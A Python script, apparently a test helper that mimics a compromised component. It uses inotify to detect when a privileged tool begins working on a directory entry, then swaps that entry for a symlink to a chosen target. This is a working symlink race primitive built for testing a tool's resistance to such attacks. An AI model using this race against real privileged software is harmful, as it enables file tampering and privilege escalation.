#!/usr/bin/env python3
# A compromised component's race, as it would run it: watch a directory the tool hands to the component
# with inotify(7) and, the moment the tool starts on one entry of it, swap that entry for a symbolic link.
#
#   swap-on-touch.py DIR NAME TARGET
#
# The events are read in the order the kernel queued them (never judged by the state of the tree when
# read, which may be later): the tool's first chown of NAME (IN_ATTRIB, the walk over DIR that hands
# DIR over), then a change of DIR itself (IN_ATTRIB: the end of that step, or its walk reaching the top),
# then the next event of any kind on NAME — a later step starting on NAME — triggers the swap:
# rename NAME to NAME.real, symlink TARGET as NAME. Prints "swapped" and exits. Run as the component's
# own user (setpriv), with no capabilities: it can do only what the component can.
import ctypes
import os
import struct
import sys

IN_ACCESS, IN_ATTRIB, IN_OPEN, IN_CLOSE_NOWRITE = 0x1, 0x4, 0x20, 0x10
IN_ISDIR = 0x40000000


def main() -> None:
    directory, name, target = sys.argv[1], sys.argv[2].encode(), sys.argv[3]
    libc = ctypes.CDLL('libc.so.6', use_errno=True)
    fd = libc.inotify_init1(0)
    if fd < 0:
        sys.exit(f'inotify_init1: {os.strerror(ctypes.get_errno())}')
    if libc.inotify_add_watch(fd, directory.encode(), IN_ATTRIB | IN_OPEN | IN_ACCESS | IN_CLOSE_NOWRITE) < 0:
        sys.exit(f'inotify_add_watch {directory}: {os.strerror(ctypes.get_errno())}')
    print('watching', flush=True)
    state = 0
    while True:
        buf = os.read(fd, 65536)
        at = 0
        while at < len(buf):
            _wd, mask, _cookie, length = struct.unpack_from('iIII', buf, at)
            entry = buf[at + 16:at + 16 + length].rstrip(b'\0')
            at += 16 + length
            if state == 0 and entry == name and mask & IN_ATTRIB:
                state = 1
            elif state == 1 and entry == b'' and mask & IN_ATTRIB:
                state = 2
            elif state == 2 and entry == name:
                os.rename(os.path.join(directory, name.decode()), os.path.join(directory, name.decode() + '.real'))
                os.symlink(target, os.path.join(directory, name.decode()))
                print('swapped', flush=True)
                return


main()
